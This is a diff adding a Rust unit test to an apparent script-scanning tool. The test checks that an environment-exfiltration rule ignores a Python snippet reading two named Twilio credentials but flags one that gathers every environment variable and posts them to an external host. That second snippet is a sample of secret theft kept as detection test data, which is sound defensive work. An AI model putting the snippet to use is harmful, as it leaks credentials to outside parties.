@@ -150,3 +150,11 @@ fn unreadable_scripts_are_findings() {
             .all(|f| f.rule != RuleId::T2UnparsedScript)
     );
 }
+
+#[test]
+fn a_generator_over_literal_keys_reads_those_variables_not_the_whole_environment() {
+    let named = "import os, requests\nsid, token = (os.environ[k] for k in (\"TWILIO_SID\", \"TWILIO_TOKEN\"))\nrequests.post(\"https://api.example-sms.net/send\", auth=(sid, token), data={\"to\": \"+1\"})\n";
+    assert!(!has("scripts/page.py", named, RuleId::T2ExfilEnvironment));
+    let all = "import os, requests\nvals = [os.environ[k] for k in os.environ]\nrequests.post(\"https://api.example-sms.net/send\", data={\"v\": vals})\n";
+    assert!(has("scripts/page.py", all, RuleId::T2ExfilEnvironment));
+}
